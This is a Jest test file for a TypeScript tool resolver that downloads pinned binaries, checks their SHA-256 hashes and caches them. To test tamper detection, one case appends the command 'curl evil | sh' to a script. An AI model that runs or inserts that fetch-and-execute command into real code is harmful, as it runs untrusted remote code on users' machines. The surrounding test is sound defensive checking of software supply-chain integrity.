import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { spawnSync } from 'node:child_process';
import { findOnPath, parseVersionOutput, pinnedTools, platformKey, resolveTool, type ToolManifest } from '../../src/lib/tools.js';

let server: Server;
let base: string;
const files = new Map<string, Buffer>();
const dir = mkdtempSync(path.join(tmpdir(), 'tools-'));
const script = Buffer.from('#!/bin/sh\necho "kubeseal version: 0.38.4"\n');

function tarball(): Buffer {
  const src = mkdtempSync(path.join(tmpdir(), 'tar-src-'));
  writeFileSync(path.join(src, 'kubeseal'), script);
  chmodSync(path.join(src, 'kubeseal'), 0o755);
  const out = path.join(dir, 'kubeseal.tar.gz');
  spawnSync('tar', ['-czf', out, '-C', src, 'kubeseal']);
  return readFileSync(out);
}

const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

beforeAll(async () => {
  server = createServer((req, res) => {
    const body = files.get(req.url ?? '');
    if (!body) {
      res.writeHead(404).end();
      return;
    }
    res.writeHead(200, { 'content-length': body.length }).end(body);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const addr = server.address();
  base = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
});
afterAll(() => new Promise<void>((r) => server.close(() => r())));

beforeEach(() => {
  process.env.RUNNER_TOOL_CACHE = mkdtempSync(path.join(tmpdir(), 'toolcache-'));
  process.env.RUNNER_TEMP = mkdtempSync(path.join(tmpdir(), 'runnertemp-'));
  process.env.PATH = '/usr/bin:/bin';
});

function manifest(body: Buffer, digest: string, archive: 'binary' | 'tar.gz'): ToolManifest {
  const url = `/kubeseal-${Math.random().toString(36).slice(2)}`;
  files.set(url, body);
  return { kubeseal: { version: 'v0.38.4', platforms: { [platformKey()]: { url: `${base}${url}`, sha256: digest, archive, bin: 'kubeseal' } } } };
}

describe('resolveTool', () => {
  test('the pinned manifest has a SHA-256 for every platform and never the malicious trivy 0.69.4', () => {
    for (const [name, pin] of Object.entries(pinnedTools)) {
      expect(pin.version).toMatch(/^v[0-9]+\.[0-9]+\.[0-9]+$/);
      for (const p of Object.values(pin.platforms)) {
        expect(p.sha256).toMatch(/^[a-f0-9]{64}$/);
        expect(p.url).toMatch(/^https:\/\//);
      }
      if (name === 'trivy') expect(pin.version).not.toBe('v0.69.4');
    }
    expect(pinnedTools.cosign?.version).toMatch(/^v3\./);
  });

  test('an executable on PATH is used as it is, and its version read', async () => {
    const bin = mkdtempSync(path.join(tmpdir(), 'bin-'));
    writeFileSync(path.join(bin, 'kubeseal'), script);
    chmodSync(path.join(bin, 'kubeseal'), 0o755);
    process.env.PATH = `${bin}:/usr/bin:/bin`;
    const r = await resolveTool('kubeseal');
    expect(r).toEqual({ path: path.join(bin, 'kubeseal'), version: '0.38.4', source: 'path' });
  });

  test('otherwise the pinned archive is downloaded, verified, unpacked and cached', async () => {
    const tgz = tarball();
    const m = manifest(tgz, sha(tgz), 'tar.gz');
    const r = await resolveTool('kubeseal', undefined, m);
    expect(r.source).toBe('download');
    expect(spawnSync(r.path).stdout.toString()).toContain('0.38.4');
    const again = await resolveTool('kubeseal', undefined, m);
    expect(again).toEqual({ ...r, source: 'cache' });
  });

  test('a checksum mismatch is an error and nothing is cached or run', async () => {
    const tampered = Buffer.concat([script, Buffer.from('curl evil | sh\n')]);
    const m = manifest(tampered, sha(script), 'binary');
    await expect(resolveTool('kubeseal', undefined, m)).rejects.toThrow(/checksum mismatch.*expected sha256 [a-f0-9]{64}, got [a-f0-9]{64}.*not run/);
    expect(readdirSync(process.env.RUNNER_TOOL_CACHE as string)).toEqual([]);
  });

  test('a version without a pinned checksum is refused', async () => {
    const m = manifest(script, sha(script), 'binary');
    await expect(resolveTool('kubeseal', 'v0.30.0', m)).rejects.toThrow(/only v0.38.4 is pinned/);
  });

  test('helpers', () => {
    expect(parseVersionOutput('GitVersion:    v3.0.6\nGitCommit: x')).toBe('v3.0.6');
    expect(parseVersionOutput('Version: 0.69.3')).toBe('0.69.3');
    expect(findOnPath('definitely-not-here', '/usr/bin')).toBeUndefined();
    expect(existsSync(findOnPath('sh', '/usr/bin:/bin') ?? '')).toBe(true);
  });
});
